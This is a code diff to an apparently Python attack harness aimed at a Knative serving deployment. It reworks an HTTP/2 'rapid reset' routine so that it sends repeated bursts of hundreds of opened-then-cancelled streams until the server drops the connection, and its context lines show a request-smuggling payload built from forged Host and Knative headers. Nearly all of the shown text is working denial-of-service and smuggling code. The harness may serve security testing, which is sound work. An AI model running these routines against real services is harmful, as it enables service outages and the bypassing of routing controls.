@@ -32,6 +32,11 @@ _HOST: Final = f"Host: {authority(WEB)}\r\nKnative-Serving-Namespace: default\r\
 _REVISION: Final = b"Knative-Serving-Revision: web\r\n"
 _FIELDS: Final = _HOST + _REVISION
 _INNER: Final = b"GET %b HTTP/1.1\r\n%b\r\n" % (SMUGGLED.encode(), _FIELDS)
+#: Bursts of resets on one connection, more than an activator accepts, and resets of each.
+_BURSTS: Final = 20
+_RESETS: Final = 200
+#: Seconds between two bursts.
+_MOMENT: Final = 0.02
 #: Seconds for a response.
 _PATIENCE: Final = 3.0
 
@@ -94,6 +99,19 @@ class Attack:
             status = 0
         self.statuses[status] += 1
         return status
+
+    async def is_closed(self, reader: asyncio.StreamReader) -> bool:
+        """Read for a moment; return and count whether the other side closed the connection."""
+        try:
+            async with asyncio.timeout(_MOMENT):
+                while await reader.read(1 << 16):
+                    pass
+        except TimeoutError:
+            return False
+        except OSError:
+            pass
+        self.statuses[0] += 1
+        return True
 
     async def repeat(self, times: int, do: Callable[[Attack], Awaitable[None]]) -> None:
         """Repeat something in so many tasks while the attack lasts."""
@@ -166,17 +184,16 @@ async def _rapid_reset(attack: Attack) -> None:
     reader, writer = await attack.open()
     state = H2Connection(H2Configuration(client_side=True))
     state.initiate_connection()
-    fields = [(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", "nobody")]
-    for _ in range(200):
-        stream = state.get_next_available_stream_id()
-        state.send_headers(stream, fields, end_stream=True)
-        state.reset_stream(stream, ErrorCodes.CANCEL)
-    writer.write(state.data_to_send())
-    try:
-        async with asyncio.timeout(1.0):
-            await reader.read()
-    except TimeoutError:
-        pass
+    to = attack.random.choice((authority(WEB), "nobody"))
+    fields = [(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", to)]
+    for _ in range(_BURSTS):
+        for _ in range(_RESETS):
+            stream = state.get_next_available_stream_id()
+            state.send_headers(stream, fields, end_stream=True)
+            state.reset_stream(stream, ErrorCodes.CANCEL)
+        writer.write(state.data_to_send())
+        if await attack.is_closed(reader):
+            break
     writer.transport.abort()
 
 
